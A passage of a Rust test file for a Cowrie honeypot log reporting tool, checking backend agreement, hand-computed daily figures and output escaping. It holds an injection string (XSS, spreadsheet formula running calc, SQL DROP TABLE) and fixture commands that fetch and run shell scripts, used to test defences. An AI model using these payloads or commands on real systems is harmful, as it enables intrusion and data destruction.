//! Reports end to end on both backends: every built-in gives the same JSON on SQLite and
//! PostgreSQL over the real logs; a hand-made log gives hand-computed figures; hostile
//! strings come out escaped in every format and change no query.

mod common;

use std::io::Write;

use chrono::{TimeZone, Utc};
use common::*;
use cowrieql::report::builtin;
use cowrieql::report::render::{render, Format};
use cowrieql::report::run::run;
use cowrieql::store::ingest::ingest;

#[tokio::test]
async fn every_builtin_report_gives_the_same_json_on_both_backends() {
    for corpus in corpora() {
        every_builtin_report_agrees_over(&corpus).await;
    }
}

async fn every_builtin_report_agrees_over(corpus: &Corpus) {
    let dbs = both().await;
    for db in &dbs {
        ingest(&db.store, &corpus.paths, &Default::default()).await.unwrap();
    }
    // After every corpus's last event (fixtures/cowrie3 was recorded on 2026-12-02).
    let now = Utc.with_ymd_and_hms(2026, 12, 31, 0, 0, 0).unwrap();
    let names = builtin::builtin_names();
    assert!(names.len() >= 11, "{names:?}");
    for name in names {
        let report = builtin::builtin(name).unwrap().unwrap();
        let mut outputs = Vec::new();
        for db in &dbs {
            let result = run(&db.store, &report, &params_for(name, corpus), now)
                .await
                .unwrap_or_else(|e| panic!("{name} on {} over the {} corpus: {e:#}", db.label, corpus.name));
            let json = render(&result, Format::Json, report.templates.get("json").map(String::as_str), None).unwrap();
            let parsed: serde_json::Value =
                serde_json::from_str(&json).unwrap_or_else(|e| panic!("{name}: invalid JSON ({e}):\n{json}"));
            for f in [Format::Text, Format::Markdown, Format::Html, Format::Csv] {
                render(&result, f, report.templates.get(f.name()).map(String::as_str), None)
                    .unwrap_or_else(|e| panic!("{name} as {}: {e:#}", f.name()));
            }
            let rows: usize = result.results.iter().map(|q| q.rows.len()).sum();
            assert!(
                rows > 0,
                "{name} on {} over the {} corpus: no rows at all: the test proves little",
                db.label,
                corpus.name
            );
            outputs.push(without_volatile(parsed));
        }
        assert_eq!(outputs[0], outputs[1], "{name} over the {} corpus: SQLite and PostgreSQL disagree", corpus.name);
    }
}

/// A small log whose figures are worked out by hand below.
const HAND_LOG: &str = r#"{"eventid":"cowrie.session.connect","session":"a1","src_ip":"10.0.0.1","sensor":"s1","protocol":"ssh","timestamp":"2025-09-22T10:00:00.000000Z"}
{"eventid":"cowrie.login.failed","session":"a1","src_ip":"10.0.0.1","sensor":"s1","username":"root","password":"123456","timestamp":"2025-09-22T10:00:01.000000Z"}
{"eventid":"cowrie.login.success","session":"a1","src_ip":"10.0.0.1","sensor":"s1","username":"root","password":"admin","timestamp":"2025-09-22T10:00:02.000000Z"}
{"eventid":"cowrie.command.input","session":"a1","src_ip":"10.0.0.1","sensor":"s1","input":"uname -a","timestamp":"2025-09-22T10:00:03.000000Z"}
{"eventid":"cowrie.command.input","session":"a1","src_ip":"10.0.0.1","sensor":"s1","input":"wget http://x/a.sh","timestamp":"2025-09-22T10:00:04.000000Z"}
{"eventid":"cowrie.session.file_download","session":"a1","src_ip":"10.0.0.1","sensor":"s1","url":"http://x/a.sh","shasum":"aa","outfile":"f","timestamp":"2025-09-22T10:00:05.000000Z"}
{"eventid":"cowrie.command.input","session":"a1","src_ip":"10.0.0.1","sensor":"s1","input":"uname -a","timestamp":"2025-09-22T10:00:06.000000Z"}
{"eventid":"cowrie.session.closed","session":"a1","src_ip":"10.0.0.1","sensor":"s1","duration":7.0,"timestamp":"2025-09-22T10:00:07.000000Z"}
{"eventid":"cowrie.session.connect","session":"b2","src_ip":"10.0.0.2","sensor":"s2","protocol":"telnet","timestamp":"2025-09-22T23:59:59.000000Z"}
{"eventid":"cowrie.login.failed","session":"b2","src_ip":"10.0.0.2","sensor":"s2","username":"admin","password":"admin","timestamp":"2025-09-23T00:00:01.000000Z"}
{"eventid":"cowrie.command.input","session":"b2","src_ip":"10.0.0.2","sensor":"s2","input":"uname -a","timestamp":"2025-09-23T00:00:02.000000Z"}
{"eventid":"cowrie.session.connect","session":"c3","src_ip":"10.0.0.1","sensor":"s1","protocol":"ssh","timestamp":"2025-09-21T23:00:00.000000Z"}
{"eventid":"cowrie.session.file_download","session":"c3","src_ip":"10.0.0.1","sensor":"s1","url":"http://x/b.sh","shasum":"bb","outfile":"g","timestamp":"2025-09-22T00:30:00.000000Z"}
"#;

#[tokio::test]
async fn daily_figures_match_a_hand_computed_log() {
    let tmp = tempfile::tempdir().unwrap();
    let f = tmp.path().join("hand.json");
    std::fs::write(&f, HAND_LOG).unwrap();
    for db in both().await {
        ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
        let report = builtin::builtin("daily").unwrap().unwrap();
        let now = Utc::now();
        let result = run(&db.store, &report, &p(&[("date", "2025-09-22")]), now).await.unwrap();
        let j: serde_json::Value = serde_json::from_str(
            &render(&result, Format::Json, report.templates.get("json").map(String::as_str), None).unwrap(),
        )
        .unwrap();
        // Sessions starting on 2025-09-22: a1 (10:00) and b2 (23:59:59); c3 started the day before.
        assert_eq!(j["report_type"], "daily", "{}", db.label);
        assert_eq!(j["date"], "2025-09-22");
        assert_eq!(j["sensor"], "aggregate");
        let s = &j["sessions"];
        assert_eq!(s["total"], 2, "{}: {s}", db.label);
        // a1 ran 3 commands, b2 one (after midnight, but it is b2's session figure): (3 + 1) / 2.
        assert_eq!(s["avg_commands"], 2.0, "{}: {s}", db.label);
        assert_eq!((s["max_commands"].clone(), s["min_commands"].clone()), (3.into(), 1.into()), "{}", db.label);
        assert_eq!(s["file_downloads"], 1, "{}: only a1's download belongs to a session of the day", db.label);
        assert_eq!(s["login_attempts"], 3, "{}: a1 two, b2 one", db.label);
        assert_eq!(s["unique_ips"], 2, "{}", db.label);
        // Every block counts the sessions that started on the 22nd: a1's three commands and
        // b2's one, run after midnight ("uname -a" three times in all).
        assert_eq!(
            j["commands"]["top"],
            serde_json::json!([{"command": "uname -a", "occurrences": 3}, {"command": "wget http://x/a.sh", "occurrences": 1}]),
            "{}",
            db.label
        );
        // a1's download; c3's (00:30 on the 22nd) belongs to the 21st, when c3 started.
        assert_eq!(j["files"]["top"], serde_json::json!([{"url": "http://x/a.sh", "occurrences": 1}]), "{}", db.label);
        // The days either side: c3 and its download on the 21st; nothing starts on the 23rd.
        let day = |d: &'static str| {
            let report = &report;
            let store = &db.store;
            async move {
                let result = run(store, report, &p(&[("date", d)]), now).await.unwrap();
                let text =
                    render(&result, Format::Json, report.templates.get("json").map(String::as_str), None).unwrap();
                serde_json::from_str::<serde_json::Value>(&text).unwrap()
            }
        };
        let before = day("2025-09-21").await;
        assert_eq!(before["sessions"]["total"], 1, "{}", db.label);
        assert_eq!(before["sessions"]["file_downloads"], 1, "{}", db.label);
        assert_eq!(before["files"]["top"], serde_json::json!([{"url": "http://x/b.sh", "occurrences": 1}]));
        let after = day("2025-09-23").await;
        assert_eq!(after["sessions"]["total"], 0, "{}", db.label);
        // A float column stays a float with no rows to average: 0.0, never 0.
        let avg = &after["sessions"]["avg_commands"];
        assert!(avg.is_f64() && avg.as_f64() == Some(0.0), "{}: {avg}", db.label);
        assert_eq!(after["commands"]["top"], serde_json::json!([]), "{}: b2's command counts on the 22nd", db.label);
        // One sensor only.
        let result = run(&db.store, &report, &p(&[("date", "2025-09-22"), ("sensor", "s2")]), now).await.unwrap();
        let j: serde_json::Value = serde_json::from_str(
            &render(&result, Format::Json, report.templates.get("json").map(String::as_str), None).unwrap(),
        )
        .unwrap();
        assert_eq!((j["sensor"].clone(), j["sessions"]["total"].clone()), ("s2".into(), 1.into()), "{}", db.label);
        assert_eq!(
            j["commands"]["top"],
            serde_json::json!([{"command": "uname -a", "occurrences": 1}]),
            "{}",
            db.label
        );
        // Events without a sensor are sensor "", not the aggregate.
        let result = run(&db.store, &report, &p(&[("date", "2025-09-22"), ("sensor", "")]), now).await.unwrap();
        let j: serde_json::Value = serde_json::from_str(
            &render(&result, Format::Json, report.templates.get("json").map(String::as_str), None).unwrap(),
        )
        .unwrap();
        assert_eq!((j["sensor"].clone(), j["sessions"]["total"].clone()), ("".into(), 0.into()), "{}", db.label);
    }
}

#[tokio::test]
async fn activity_fills_quiet_hours_with_zero() {
    let tmp = tempfile::tempdir().unwrap();
    let f = tmp.path().join("hand.json");
    std::fs::write(&f, HAND_LOG).unwrap();
    for db in both().await {
        ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
        let report = builtin::builtin("activity").unwrap().unwrap();
        let result = run(&db.store, &report, &p(&[("window", "2025-09-22")]), Utc::now()).await.unwrap();
        let per_hour = &result.results[0];
        assert_eq!(per_hour.rows.len(), 24, "{}", db.label);
        let events: Vec<String> = per_hour.rows.iter().map(|r| r[1].display()).collect();
        // 00:30 one event (c3's download), 10:00-10:07 eight (a1), 23:59:59 one (b2's connect).
        assert_eq!(events[0], "1");
        assert_eq!(events[10], "8");
        assert_eq!(events[23], "1");
        assert_eq!(events.iter().filter(|e| *e == "0").count(), 21, "{}: {events:?}", db.label);
        assert_eq!(result.results[2].rows.len(), 7, "{}: the weekday matrix has every day", db.label);
    }
}

const HOSTILE: &str = "<script>alert(1)</script>|`x`*_[a](b)\u{1b}[31m=cmd|' /C calc'!A0'; DROP TABLE sessions; --";

#[tokio::test]
async fn hostile_strings_are_escaped_in_every_format_and_change_no_query() {
    let tmp = tempfile::tempdir().unwrap();
    let f = tmp.path().join("hostile.json");
    let mut file = std::fs::File::create(&f).unwrap();
    for (i, field) in ["username", "input"].iter().enumerate() {
        let ev = if *field == "username" { "cowrie.login.success" } else { "cowrie.command.input" };
        let line = serde_json::json!({"eventid": ev, "session": "h1", "sensor": "s", "src_ip": "1.1.1.1", *field: HOSTILE,
            "password": HOSTILE, "timestamp": format!("2025-09-22T10:00:0{i}.000000Z")});
        writeln!(file, "{line}").unwrap();
    }
    drop(file);
    for db in both().await {
        ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
        for name in ["credentials", "commands"] {
            let report = builtin::builtin(name).unwrap().unwrap();
            let result = run(&db.store, &report, &p(&[("window", "2025-09-22")]), Utc::now()).await.unwrap();
            let html = render(&result, Format::Html, None, None).unwrap();
            assert!(!html.contains("<script>"), "{name}: raw script in HTML");
            assert!(html.contains("&lt;script&gt;"), "{name}: the string is shown, escaped");
            assert!(!html.contains('\u{1b}'));
            let md = render(&result, Format::Markdown, None, None).unwrap();
            assert!(!md.contains("<script>") && md.contains("\\|") && md.contains("\\`x\\`"), "{name}: {md}");
            let text = render(&result, Format::Text, None, None).unwrap();
            assert!(!text.contains('\u{1b}') && text.contains("\\x1b[31m"), "{name}");
            let json = render(&result, Format::Json, None, None).unwrap();
            assert!(
                json.contains(&serde_json::to_string(HOSTILE).unwrap()[1..20]),
                "{name}: JSON keeps the exact text"
            );
            let csv_query = if name == "credentials" { "usernames" } else { "top_commands" };
            let csv = render(&result, Format::Csv, None, Some(csv_query)).unwrap();
            assert!(
                csv.lines().nth(1).is_some_and(|l| l.starts_with("\"'<script>") || l.starts_with("<script>")),
                "{name}: {csv}"
            );
            // Terminal escapes are shown, not sent, in CSV as in text.
            assert!(!csv.contains('\u{1b}') && csv.contains("\\x1b[31m"), "{name}: {csv}");
        }
        // A hostile parameter is bound, not spliced: no rows, and the tables are intact.
        let report = builtin::builtin("daily").unwrap().unwrap();
        let result =
            run(&db.store, &report, &p(&[("date", "2025-09-22"), ("sensor", HOSTILE)]), Utc::now()).await.unwrap();
        assert_eq!(result.results[0].rows[0][0].display(), "0", "{}", db.label);
        assert_eq!(count(&db.store, "sessions").await, 1, "{}", db.label);
        let csv = render(&result, Format::Csv, None, Some("sessions")).unwrap();
        assert!(csv.starts_with("total,"), "{csv}");
    }
}

#[test]
fn csv_cells_that_look_like_formulas_are_defused() {
    assert_eq!(cowrieql::report::escape::csv_cell("=1+1"), "'=1+1");
}

#[tokio::test]
async fn unknown_parameters_and_bad_values_are_clear_errors() {
    let db = fresh_sqlite().await;
    let report = builtin::builtin("daily").unwrap().unwrap();
    let err = run(&db.store, &report, &p(&[("dat", "2025-09-22")]), Utc::now()).await.unwrap_err().to_string();
    assert!(err.contains("no parameter \"dat\"") && err.contains("date"), "{err}");
    let err = run(&db.store, &report, &p(&[("date", "2025-W39")]), Utc::now()).await.unwrap_err().to_string();
    assert!(err.contains("is not a day"), "{err}");
    let err =
        run(&db.store, &report, &p(&[("date", "2025-09-22"), ("top", "0")]), Utc::now()).await.unwrap_err().to_string();
    assert!(err.contains("outside 1..1000"), "{err}");
    let session = builtin::builtin("session").unwrap().unwrap();
    let err = run(&db.store, &session, &[], Utc::now()).await.unwrap_err().to_string();
    assert!(err.contains("--param session="), "{err}");
}

#[test]
fn bad_report_definitions_name_file_and_line() {
    let tmp = tempfile::tempdir().unwrap();
    let f = tmp.path().join("bad.yaml");
    std::fs::write(&f, "name: bad\ntitle: Bad\nqueries:\n  q: from sessions\ncolour: red\n").unwrap();
    let err = format!("{:#}", cowrieql::report::def::Report::load(&f).unwrap_err());
    assert!(err.contains("bad.yaml") && err.contains("unknown field `colour`") && err.contains("line 5"), "{err}");
    std::fs::write(
        &f,
        "name: bad\ntitle: Bad\nparameters:\n  top:\n    type: int\n    default: many\nqueries:\n  q: from sessions\n",
    )
    .unwrap();
    let err = format!("{:#}", cowrieql::report::def::Report::load(&f).unwrap_err());
    assert!(err.contains("bad.yaml") && err.contains("line 4") && err.contains("not a valid int"), "{err}");
    // A query error is reported with the query's line and column by `check`.
    std::fs::write(&f, "name: bad\ntitle: Bad\nqueries:\n  q: |\n    from sessions\n    where sesion_id == 'x'\n")
        .unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cowrieql")).arg("check").arg(&f).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("(query q):2:7") && err.contains("did you mean `session_id`"), "{err}");
}

/// daily/weekly/monthly and activity read views; the same reports with their queries written
/// against the base tables (benches/fixtures/*_inline.yaml, the definitions before views)
/// give the same figures on both backends, for every window kind.
#[tokio::test]
async fn reports_read_from_views_equal_the_inline_queries() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let queries_of = |text: &str| text[text.find("\nqueries:").unwrap()..].to_string();
    let daily_inline = queries_of(&std::fs::read_to_string(root.join("benches/fixtures/daily_inline.yaml")).unwrap());
    let activity_inline =
        queries_of(&std::fs::read_to_string(root.join("benches/fixtures/activity_inline.yaml")).unwrap());
    let files = cowrieql::report::def::DiskFiles(root.join("reports"));
    for (corpus, db) in corpora_on_both().await {
        // A `now` inside the data, not on an hour boundary: relative windows are widened.
        let real = corpus.name == "real";
        let now = if real {
            Utc.with_ymd_and_hms(2018, 7, 2, 13, 37, 11).unwrap()
        } else {
            Utc.with_ymd_and_hms(2025, 9, 21, 13, 37, 11).unwrap()
        };
        ingest(&db.store, &corpus.paths, &Default::default()).await.unwrap();
        let (day, week, month) =
            if real { ("2018-06-30", "2018-W26", "2018-06") } else { ("2025-09-18", "2025-W38", "2025-09") };
        for (name, param, window, inline_queries) in [
            ("daily", "date", day, &daily_inline),
            ("weekly", "week", week, &daily_inline),
            ("monthly", "month", month, &daily_inline),
            ("activity", "window", day, &activity_inline),
            ("activity", "window", "last 30d", &activity_inline),
        ] {
            let text = std::fs::read_to_string(root.join(format!("reports/{name}.yaml"))).unwrap();
            let head = &text[..text.find("\nqueries:").unwrap()];
            let with_views = cowrieql::report::def::Report::parse(&text, "v.yaml", &files).unwrap();
            let inline =
                cowrieql::report::def::Report::parse(&format!("{head}{inline_queries}"), "i.yaml", &files).unwrap();
            let params = p(&[(param, window)]);
            let a = run(&db.store, &with_views, &params, now).await.unwrap();
            let b = run(&db.store, &inline, &params, now).await.unwrap();
            assert!(!a.views.is_empty() && b.views.is_empty(), "{name}: only the first reads views");
            // The sections both definitions have (the daily's newer sections read no view).
            let cells = |r: &cowrieql::report::run::ReportResult| {
                r.results
                    .iter()
                    .filter(|q| inline.queries.iter().any(|i| i.name == q.name))
                    .map(|q| (q.name.clone(), q.rows.clone()))
                    .collect::<Vec<_>>()
            };
            assert_eq!(cells(&a), cells(&b), "{name} {window} on {} over the {} corpus", db.label, corpus.name);
            let filled = a.results.iter().filter(|q| !q.rows.is_empty()).count();
            assert!(filled >= 2, "{name} {window}: too few sections with rows to prove anything");
        }
    }
}

/// A session is (sensor, session id) in every report: the same id on two sensors is two
/// sessions in activity as in daily.
#[tokio::test]
async fn the_same_session_id_on_two_sensors_is_two_sessions_everywhere() {
    let tmp = tempfile::tempdir().unwrap();
    let f = log_file(
        &tmp,
        "twins.json",
        r#"{"eventid":"cowrie.session.connect","session":"dup1","src_ip":"10.0.0.1","sensor":"a","timestamp":"2025-09-22T10:00:00Z"}
{"eventid":"cowrie.session.connect","session":"dup1","src_ip":"10.0.0.2","sensor":"b","timestamp":"2025-09-22T10:05:00Z"}
{"eventid":"cowrie.command.input","session":"dup1","src_ip":"10.0.0.2","sensor":"b","input":"w","timestamp":"2025-09-22T10:06:00Z"}
"#,
    );
    let now = Utc::now();
    for db in both().await {
        ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
        let activity = builtin::builtin("activity").unwrap().unwrap();
        let r = run(&db.store, &activity, &p(&[("window", "2025-09-22")]), now).await.unwrap();
        let col =
            |q: &cowrieql::report::run::QueryResult, name: &str| q.columns.iter().position(|(n, _)| n == name).unwrap();
        let per_hour = &r.results[0];
        assert_eq!(per_hour.rows[10][col(per_hour, "sessions")].display(), "2", "{}", db.label);
        assert_eq!(per_hour.rows[10][col(per_hour, "events")].display(), "3", "{}", db.label);
        let per_day = &r.results[1];
        assert_eq!(per_day.rows[0][col(per_day, "sessions")].display(), "2", "{}", db.label);
        let daily = builtin::builtin("daily").unwrap().unwrap();
        let r = run(&db.store, &daily, &p(&[("date", "2025-09-22")]), now).await.unwrap();
        assert_eq!(r.results[0].rows[0][0].display(), "2", "{}: daily total", db.label);
    }
}

/// `all`, a year and a range of days cover what they say, on both backends alike.
#[tokio::test]
async fn windows_all_year_and_ranges_cover_what_they_say() {
    let now = Utc.with_ymd_and_hms(2026, 11, 28, 0, 0, 0).unwrap();
    let sample = fixture("sample");
    let mut per_backend = Vec::new();
    for db in both().await {
        ingest(&db.store, std::slice::from_ref(&sample), &Default::default()).await.unwrap();
        let commands = builtin::builtin("commands").unwrap().unwrap();
        let rows = |w: &'static str| {
            let (store, commands) = (&db.store, &commands);
            async move {
                let r = run(store, commands, &p(&[("window", w)]), now).await.unwrap();
                r.results.iter().map(|q| q.rows.clone()).collect::<Vec<_>>()
            }
        };
        // The sample is the week 2025-09-15..21 (a few minutes spill into the 22nd).
        let all = rows("all").await;
        assert!(!all[0].is_empty(), "{}", db.label);
        assert_eq!(all, rows("2025").await, "{}: all = the year holding every event", db.label);
        assert_eq!(all, rows("2025-09-15..2025-09-22").await, "{}: both days included", db.label);
        assert_eq!(all, rows("2025-09").await, "{}", db.label);
        assert_ne!(all, rows("2025-09-15..2025-09-20").await, "{}: a shorter range is less", db.label);
        assert!(rows("2024").await[0].is_empty(), "{}", db.label);
        assert_eq!(rows("2025-09-18..2025-09-18").await, rows("2025-09-18").await, "{}", db.label);
        // The period documents take the same forms: a summary of the whole sample.
        let daily = builtin::builtin("daily").unwrap().unwrap();
        let summary = |w: &'static str| {
            let (store, daily) = (&db.store, &daily);
            async move { run(store, daily, &p(&[("date", w)]), now).await.unwrap().results[0].rows.clone() }
        };
        let whole = summary("all").await;
        assert_eq!(whole, summary("2025").await, "{}", db.label);
        assert_eq!(whole, summary("2025-09-14..2025-09-22").await, "{}", db.label);
        assert_eq!(whole[0][0].display(), count(&db.store, "sessions").await.to_string(), "{}", db.label);
        // Filled series over `all` span the data, not 1900 to 9999.
        let activity = builtin::builtin("activity").unwrap().unwrap();
        let r = run(&db.store, &activity, &p(&[("window", "all")]), now).await.unwrap();
        let days = &r.results[1].rows;
        assert!((7..=8).contains(&days.len()), "{}: {} days", db.label, days.len());
        per_backend.push((all, days.clone()));
    }
    assert_eq!(per_backend[0], per_backend[1], "SQLite and PostgreSQL disagree");
}

fn one_table(
    columns: Vec<(&str, cowrieql::check::ir::Ty)>,
    rows: Vec<Vec<cowrieql::report::Value>>,
) -> cowrieql::report::run::ReportResult {
    cowrieql::report::run::ReportResult {
        name: "t".into(),
        title: "T".into(),
        description: String::new(),
        params: Vec::new(),
        window: None,
        generated_at: Utc::now(),
        backend: "sqlite",
        results: vec![cowrieql::report::run::QueryResult {
            name: "rows".into(),
            title: Some("Rows".into()),
            chart: None,
            columns: columns.into_iter().map(|(n, t)| (n.to_string(), t)).collect(),
            rows,
        }],
        views: Vec::new(),
        inlined: Vec::new(),
        replica_lag: None,
    }
}

/// Text tables fit a terminal's width in display columns, keep numbers whole, and show
/// empty strings and booleans as such; without a width every value is whole.
#[test]
fn text_tables_fit_the_terminal_and_count_display_columns() {
    use cowrieql::check::ir::Ty;
    use cowrieql::report::render::render_fit;
    use cowrieql::report::Value;
    let long = format!("cd /tmp; wget http://203.0.113.7/{}; sh x", "a".repeat(150));
    let cjk = "echo 你好世界你好世界你好世界你好世界你好世界你好世界 🦀🦀🦀🦀";
    let r = one_table(
        vec![("command", Ty::Text), ("n", Ty::Int), ("ok", Ty::Bool)],
        vec![
            vec![Value::Text(long.clone()), Value::Int(1_234_567), Value::Bool(true)],
            vec![Value::Text(cjk.into()), Value::Int(2), Value::Bool(false)],
            vec![Value::Text(String::new()), Value::Int(3), Value::Null],
        ],
    );
    let width = |s: &str| unicode_width::UnicodeWidthStr::width(s);
    let fitted = render_fit(&r, Format::Text, None, None, Some(60)).unwrap();
    let table: Vec<&str> = fitted.lines().skip_while(|l| !l.starts_with("command")).collect();
    assert_eq!(table.len(), 5, "{fitted}");
    for l in &table {
        assert!(width(l) <= 60, "{} columns: {l}", width(l));
    }
    assert!(table[2].starts_with("cd /tmp; wget http://203.0.113.7/aaa") && table[2].contains('…'), "{fitted}");
    assert!(table[2].contains("1234567") && table[2].ends_with("true"), "numbers and booleans whole: {fitted}");
    assert!(table[3].contains('…') && table[3].ends_with("false"), "{fitted}");
    // Wide characters: the columns after the command line up with the header's.
    let col_of = |l: &str, needle: &str| width(&l[..l.find(needle).unwrap()]);
    assert_eq!(col_of(table[2], "true"), col_of(table[3], "false"), "{fitted}");
    assert_eq!(col_of(table[2], "1234567") + 6, col_of(table[3], "2"), "{fitted}");
    assert!(table[4].starts_with("(empty)"), "{fitted}");

    let whole = render_fit(&r, Format::Text, None, None, None).unwrap();
    assert!(whole.contains(&long) && whole.contains(cjk), "full values without a width");
}

/// Failed downloads are listed per URL with attempts and sessions side by side: wget and
/// curl on one URL in one command are two attempts in one session.
#[tokio::test]
async fn failed_download_attempts_have_their_own_section() {
    let tmp = tempfile::tempdir().unwrap();
    let f = log_file(
        &tmp,
        "failed.json",
        r#"{"eventid":"cowrie.session.connect","session":"s1","src_ip":"10.0.0.1","sensor":"a","timestamp":"2025-09-22T10:00:00Z"}
{"eventid":"cowrie.command.input","session":"s1","src_ip":"10.0.0.1","sensor":"a","input":"wget http://x/d.sh || curl -O http://x/d.sh","timestamp":"2025-09-22T10:00:01Z"}
{"eventid":"cowrie.session.file_download.failed","session":"s1","src_ip":"10.0.0.1","sensor":"a","url":"http://x/d.sh","error":"refused","timestamp":"2025-09-22T10:00:02Z"}
{"eventid":"cowrie.session.file_download.failed","session":"s1","src_ip":"10.0.0.1","sensor":"a","url":"http://x/d.sh","error":"refused","timestamp":"2025-09-22T10:00:03Z"}
{"eventid":"cowrie.session.file_download.failed","session":"s1","src_ip":"10.0.0.9","sensor":"b","url":"http://x/d.sh","timestamp":"2025-09-22T11:00:00Z"}
{"eventid":"cowrie.session.file_download_failed","session":"s2","src_ip":"10.0.0.9","sensor":"b","url":"http://y/e.sh","timestamp":"2025-09-22T12:00:00Z"}
{"eventid":"cowrie.session.file_download","session":"s2","src_ip":"10.0.0.9","sensor":"b","url":"http://y/ok.sh","shasum":"ab","outfile":"o","timestamp":"2025-09-22T12:00:05Z"}
"#,
    );
    let mut per_backend = Vec::new();
    for db in both().await {
        ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
        let report = builtin::builtin("downloads").unwrap().unwrap();
        let r = run(&db.store, &report, &p(&[("window", "2025-09-22")]), Utc::now()).await.unwrap();
        let failed = r.results.iter().find(|q| q.name == "failed").expect("a failed section");
        let cells: Vec<Vec<String>> =
            failed.rows.iter().map(|r| r[..4].iter().map(|v| v.display()).collect()).collect();
        // url, attempts, sessions (a/s1 and b/s1 are two), sources.
        assert_eq!(
            cells,
            vec![vec!["http://x/d.sh", "3", "2", "2"], vec!["http://y/e.sh", "1", "1", "1"]],
            "{}",
            db.label
        );
        let urls = &r.results[0];
        assert_eq!(urls.rows.len(), 1, "{}: only the successful download among the URLs", db.label);
        per_backend.push(cells);
    }
    assert_eq!(per_backend[0], per_backend[1]);
}

/// Enrichment figures read "n/a" until an enrichment source has written an event: a 0 would
/// say "checked, clean".
#[tokio::test]
async fn enrichment_figures_never_computed_are_not_zero() {
    let tmp = tempfile::tempdir().unwrap();
    let f = tmp.path().join("hand.json");
    std::fs::write(&f, HAND_LOG).unwrap();
    let vt = tmp.path().join("vt.json");
    std::fs::write(
        &vt,
        r#"{"eventid":"cowrie.virustotal.scanfile","session":"a1","src_ip":"10.0.0.1","sensor":"s1","sha256":"aa","positives":3,"total":60,"timestamp":"2025-09-22T10:00:06.500000Z"}
"#,
    )
    .unwrap();
    let report = builtin::builtin("daily").unwrap().unwrap();
    let json = |r: &cowrieql::report::run::ReportResult| -> serde_json::Value {
        serde_json::from_str(&render(r, Format::Json, report.templates.get("json").map(String::as_str), None).unwrap())
            .unwrap()
    };
    for db in both().await {
        ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
        let r = run(&db.store, &report, &p(&[("date", "2025-09-22")]), Utc::now()).await.unwrap();
        let j = json(&r);
        assert_eq!(
            (j["sessions"]["vt_flagged"].clone(), j["sessions"]["dshield_flagged"].clone()),
            ("n/a".into(), "n/a".into()),
            "{}",
            db.label
        );
        let text = render(&r, Format::Text, None, None).unwrap();
        assert!(text.contains("n/a"), "{text}");
        ingest(&db.store, std::slice::from_ref(&vt), &Default::default()).await.unwrap();
        cowrieql::store::views::refresh(&db.store, &[], false, false).await.unwrap();
        let j = json(&run(&db.store, &report, &p(&[("date", "2025-09-22")]), Utc::now()).await.unwrap());
        assert_eq!(j["sessions"]["vt_flagged"], 1, "{}: a1 was flagged", db.label);
        assert_eq!(j["sessions"]["dshield_flagged"], "n/a", "{}: DShield writes no events", db.label);
    }
}

/// E0601 points at the undeclared parameter's first use, found by the checker (a text search
/// would find `$sensor` inside `$sensor_name`, or in a comment).
#[test]
fn an_undeclared_parameter_points_at_its_first_use() {
    let yaml = "name: t\ntitle: T\nqueries:\n  q: |\n      # $sens in a comment\n      from sessions\n      where sensor == $sens\n";
    let r =
        cowrieql::report::def::Report::parse(yaml, "t.yaml", &cowrieql::report::def::DiskFiles(std::env::temp_dir()))
            .unwrap();
    let errs = cowrieql::report::run::compile_report(&r, &cowrieql::sql::SQLITE).unwrap_err();
    assert_eq!(errs.len(), 1, "{errs:?}");
    let e = &errs[0];
    assert!(e.contains("E0601") && e.contains("`$sens` is not a parameter"), "{e}");
    let lines: Vec<&str> = e.lines().collect();
    let at = lines.iter().position(|l| l.contains("where sensor == $sens")).unwrap_or_else(|| panic!("{e}"));
    let caret = lines[at + 1];
    let col = lines[at].find("$sens").unwrap();
    assert_eq!(caret.find('^'), Some(col), "{e}");
    assert_eq!(caret.matches('^').count(), "$sens".len(), "{e}");
}

/// The sample's own week for the reports that take a window (a `last N` window reaching back
/// years would snapshot years of empty hours).
fn sample_params(name: &str, sample: &Corpus) -> Vec<(String, String)> {
    match params_for(name, sample) {
        p if p.iter().any(|(k, _)| k == "window") => common::p(&[("window", "2025-09-15..2025-09-21")]),
        p => p,
    }
}

/// Every built-in report pinned down by snapshots: its SQL per dialect, its result rows over
/// the shipped sample (the same on both backends, so a bug they share still shows as a
/// change), and its text, markdown, html and json renderings.
/// `INSTA_UPDATE=always cargo test --test reports snapshot` rewrites them; review with git diff.
#[tokio::test]
async fn builtin_reports_match_their_snapshots_over_the_sample() {
    let dbs = both().await;
    let sample = Corpus { name: "sample", paths: vec![fixture("sample")] };
    for db in &dbs {
        ingest(&db.store, &sample.paths, &Default::default()).await.unwrap();
    }
    let now = Utc.with_ymd_and_hms(2026, 11, 28, 0, 0, 0).unwrap();
    for name in builtin::builtin_names() {
        let report = builtin::builtin(name).unwrap().unwrap();
        for d in cowrieql::sql::all_dialects() {
            let compiled = cowrieql::report::run::compile_report(&report, d).unwrap();
            let sql: Vec<String> = compiled.iter().map(|c| c.sql.clone()).collect();
            insta::assert_snapshot!(format!("report_sql@{name}.{}", d.name()), sql.join(";\n\n-- next query\n"));
        }
        let mut results = Vec::new();
        for db in &dbs {
            let mut r = run(&db.store, &report, &sample_params(name, &sample), now).await.unwrap();
            // What changes from run to run (and names the backend) is pinned.
            r.generated_at = now;
            r.backend = "sqlite";
            for v in &mut r.views {
                v.refreshed_at = now;
            }
            results.push(r);
        }
        let rows = |r: &cowrieql::report::run::ReportResult| -> String {
            r.results
                .iter()
                .map(|q| {
                    let cols: Vec<&str> = q.columns.iter().map(|(c, _)| c.as_str()).collect();
                    let body: Vec<String> = q.rows.iter().map(|row| format!("{row:?}")).collect();
                    format!("## {} ({})\n{}", q.name, cols.join(", "), body.join("\n"))
                })
                .collect::<Vec<_>>()
                .join("\n\n")
        };
        assert_eq!(rows(&results[0]), rows(&results[1]), "{name}: SQLite and PostgreSQL rows differ");
        insta::assert_snapshot!(format!("report_rows@{name}"), rows(&results[0]));
        for f in [Format::Text, Format::Markdown, Format::Html, Format::Json] {
